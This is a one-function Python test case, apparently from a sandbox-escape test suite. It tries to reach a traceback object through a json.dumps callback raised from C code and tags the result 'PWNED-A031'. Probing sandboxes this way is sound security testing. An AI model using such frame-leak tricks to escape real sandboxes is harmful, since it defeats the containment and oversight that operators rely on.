# id: A031
# goal: a callback from C asks for its caller
def transformEvent(event, metadata):
    import json
    def show(value):
        raise ValueError("no")
    try:
        json.dumps(len, default=show)
    except ValueError as error:
        return {"x": "PWNED-A031 " + str(error.__traceback__)}
